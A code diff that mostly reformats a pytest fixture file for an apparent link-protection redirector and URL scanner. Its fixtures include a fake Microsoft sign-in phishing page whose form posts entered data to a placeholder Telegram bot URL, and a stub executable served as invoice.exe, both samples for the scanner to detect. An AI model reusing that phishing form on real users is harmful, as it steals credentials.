@@ -31,8 +31,11 @@ from tests.click.servers import redirector_app, serve
 from tests.storage.azurite import Azurite, AzuriteUnavailable, azurite
 
 KEY = b"k" * 32
-BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0 Safari/537.36",
-           "Accept-Language": "en-GB,en;q=0.9", "Accept": "text/html"}
+BROWSER = {
+    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0 Safari/537.36",
+    "Accept-Language": "en-GB,en;q=0.9",
+    "Accept": "text/html",
+}
 
 PHISH = """<!doctype html><html><head><title>Sign in to your Microsoft account</title></head><body>
 <h1>Microsoft</h1><form action="https://api.telegram.org/bot123:abc/sendMessage" method="post">
@@ -78,9 +81,11 @@ def _site_app(hits: list[str]) -> Starlette:
             await asyncio.sleep(5)
             return HTMLResponse(BENIGN)
         if path == "/file.exe":
-            return Response(b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200,
-                            media_type="application/octet-stream",
-                            headers={"Content-Disposition": 'attachment; filename="invoice.exe"'})
+            return Response(
+                b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200,
+                media_type="application/octet-stream",
+                headers={"Content-Disposition": 'attachment; filename="invoice.exe"'},
+            )
         return HTMLResponse(BENIGN)
 
     return Starlette(routes=[Route("/{p:path}", page)])
@@ -122,8 +127,15 @@ class Redirector:
     cache: MemoryVerdictCache
     client: httpx.Client
 
-    def link(self, url: str, *, tenant: str = "contoso", recipient: str = "ann@contoso.example",
-             message: str = "", issued_at: int = 1_700_000_000) -> str:
+    def link(
+        self,
+        url: str,
+        *,
+        tenant: str = "contoso",
+        recipient: str = "ann@contoso.example",
+        message: str = "",
+        issued_at: int = 1_700_000_000,
+    ) -> str:
         ref = message_ref(message or uuid.uuid4().hex)  # one message per link unless asked
         return self.codec.wrap(url, LinkContext(tenant, recipient, ref, issued_at))
 
@@ -137,9 +149,11 @@ def make_redirector(stores: AzureStores, settings: ClickSettings) -> Iterator[Re
     policies: dict[str, Policy] = {}
     brandings: dict[str, Branding] = {}
     cache = MemoryVerdictCache(ttl_seconds=600)
-    fetcher = SafeFetcher(allow_networks=parse_networks(settings.scan_allow_networks),
-                          limits=FetchLimits(timeout_seconds=settings.click_analysis_timeout_seconds),
-                          resolver=test_resolver)
+    fetcher = SafeFetcher(
+        allow_networks=parse_networks(settings.scan_allow_networks),
+        limits=FetchLimits(timeout_seconds=settings.click_analysis_timeout_seconds),
+        resolver=test_resolver,
+    )
     holder: dict[str, ClickService] = {}
 
     class _Lazy:  # the codec needs the port, the app needs the service: bind after start
@@ -150,18 +164,29 @@ def make_redirector(stores: AzureStores, settings: ClickSettings) -> Iterator[Re
     with serve(app) as port:
         base = f"http://127.0.0.1:{port}/api/r"
         codec_holder["c"] = LinkCodec(base, LinkKeyring({"k1": KEY}, "k1"))
-        service = ClickService(codec_holder["c"], lambda t: policies.get(t, Policy()), cache, lambda: intel,
-                               ClickAnalyzer(fetcher), stores.clicks, stores.rate_limiter, settings,
-                               branding_lookup=lambda t: brandings.get(t, Branding(name="Contoso")))
+        service = ClickService(
+            codec_holder["c"],
+            lambda t: policies.get(t, Policy()),
+            cache,
+            lambda: intel,
+            ClickAnalyzer(fetcher),
+            stores.clicks,
+            stores.rate_limiter,
+            settings,
+            branding_lookup=lambda t: brandings.get(t, Branding(name="Contoso")),
+        )
         holder["s"] = service
         with httpx.Client(follow_redirects=False, timeout=30, trust_env=False) as client:
-            yield Redirector(base, codec_holder["c"], service, stores, intel, policies, brandings, cache, client)
+            yield Redirector(
+                base, codec_holder["c"], service, stores, intel, policies, brandings, cache, client
+            )
 
 
 @pytest.fixture
 def stores(azurite_emulator: Azurite) -> AzureStores:
-    config = StorageConfig(connection_string=SecretStr(azurite_emulator.connection_string),
-                           prefix=f"c{next(_prefix)}x")
+    config = StorageConfig(
+        connection_string=SecretStr(azurite_emulator.connection_string), prefix=f"c{next(_prefix)}x"
+    )
     return AzureStores.open(config)
 
 
@@ -175,4 +200,6 @@ def redirector(stores: AzureStores, monkeypatch: pytest.MonkeyPatch) -> Iterator
 @pytest.fixture
 def strict_redirector(stores: AzureStores) -> Iterator[Redirector]:
     """No network allowance: loopback is refused like any private address."""
-    yield from make_redirector(stores, ClickSettings(scan_allow_networks="", click_analysis_timeout_seconds=2.0))
+    yield from make_redirector(
+        stores, ClickSettings(scan_allow_networks="", click_analysis_timeout_seconds=2.0)
+    )
